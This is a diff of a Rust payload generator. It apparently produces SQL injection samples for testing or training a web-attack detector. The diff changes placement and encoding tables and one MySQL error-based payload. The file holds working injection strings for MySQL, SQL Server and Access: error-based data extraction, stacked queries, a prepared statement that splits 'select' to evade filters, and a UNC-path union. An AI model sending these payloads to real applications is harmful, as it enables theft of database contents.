@@ -7,7 +7,7 @@ use super::super::attack::{AttackGrammar, payload};
 use super::super::encode::Encoding;
 use super::super::place::Place;
 use super::super::rng::Rng;
-use super::tools::callback;
+use super::tools::domain;
 
 /// In what a server decodes: the tamper scripts that only respell, and those that encode once or twice.
 const TARGETS: &[Place] = &[Place::Query, Place::Form, Place::Cookie];
@@ -25,14 +25,18 @@ const TAMPERED: &[Encoding] = &[
 /// What any application reads; percent escapes would stay there.
 const ANYWHERE: &[Encoding] =
     &[Encoding::Plain, Encoding::Comment, Encoding::Whitespace, Encoding::JsonEscape, Encoding::Case];
+/// For names of tables, which have a case where the file system has one.
+const RESPELLED: &[Encoding] = &[Encoding::Plain, Encoding::Comment, Encoding::Whitespace, Encoding::JsonEscape];
+/// Nobody decodes a header once more, and it holds no odd blanks.
+const BUT_HEADERS: &[Place] = &[Place::Query, Place::Form, Place::Json, Place::Cookie, Place::Multipart, Place::Xml];
 /// For payloads whose case or blanks matter.
 const AS_WRITTEN: &[Encoding] = &[Encoding::Plain, Encoding::JsonEscape, Encoding::DoublePercent];
 
 pub(super) const ATTACKS: &[AttackGrammar] = &[
     payload("sqlmap-tests", AttackClass::Sqli, 38, sqlmap, TARGETS, TAMPERED),
-    payload("sqli-scanner-arithmetic", AttackClass::Sqli, 34, scanners, Place::PARAMETERS, AS_WRITTEN),
-    payload("sqli-newer-functions", AttackClass::Sqli, 32, newer, Place::INPUTS, ANYWHERE),
-    payload("sqli-sqlserver", AttackClass::Sqli, 32, sqlserver, Place::PARAMETERS, ANYWHERE),
+    payload("sqli-scanner-arithmetic", AttackClass::Sqli, 34, scanners, BUT_HEADERS, AS_WRITTEN),
+    payload("sqli-newer-functions", AttackClass::Sqli, 32, newer, Place::INPUTS, RESPELLED),
+    payload("sqli-sqlserver", AttackClass::Sqli, 32, sqlserver, BUT_HEADERS, ANYWHERE),
     payload("sqli-rare-databases", AttackClass::Sqli, 30, rare, Place::INPUTS, AS_WRITTEN),
 ];
 
@@ -118,7 +122,7 @@ fn newer(rng: &mut Rng) -> Vec<u8> {
         9 => format!("{n}{quote} and ST_LatFromGeoHash(concat(char(126),{secret},char(126)))-- "),
         10 => format!("{n}{quote} and ST_PointFromGeoHash(concat(char(126),{secret}),{n})-- "),
         11 => format!("{n}{quote} or multipoint((select*from(select*from(select {secret})a)b))-- "),
-        12 => format!("{n}{quote} and (select*from(select name_const({secret},1),name_const({secret},1))a)-- "),
+        12 => format!("{n}{quote} and (select*from(select name_const(version(),1),name_const(version(),1))a)-- "),
         13 => format!("{n}{quote} or uuid_to_bin({secret}) is null-- "),
         14 => format!("{n}{quote};handler {word} open as a;handler a read first;-- "),
         15 => format!("{n}{quote};set @a=concat('sel','ect {secret}');prepare {word} from @a;execute {word};-- "),
@@ -140,7 +144,7 @@ fn sqlserver(rng: &mut Rng) -> Vec<u8> {
         "(select top 1 name from sysobjects where xtype='U')",
         "host_name()",
     ]);
-    let away = callback(rng);
+    let away = domain(rng);
     match rng.below(15) {
         0 => format!("{n}{quote} and 1=convert(int,{secret})--"),
         1 => format!("{n}{quote} and {n}=cast({secret} as int)--"),
@@ -164,7 +168,7 @@ fn sqlserver(rng: &mut Rng) -> Vec<u8> {
 /// Access, DB2, Informix, Firebird, ClickHouse, SAP HANA, HQL, Cypher, N1QL: what small systems and dashboards run on.
 fn rare(rng: &mut Rng) -> Vec<u8> {
     let (n, word) = (rng.between(2, 60), rng.letters(4));
-    let away = callback(rng);
+    let away = domain(rng);
     match rng.below(17) {
         0 => format!("{n}' union select {n},name,3 from msysobjects in '\\\\{word}\\a.mdb' where '1'='1"),
         1 => format!("iif((select mid(last(username),{n},1) from (select top {n} username from admin))='a',0,'no')"),
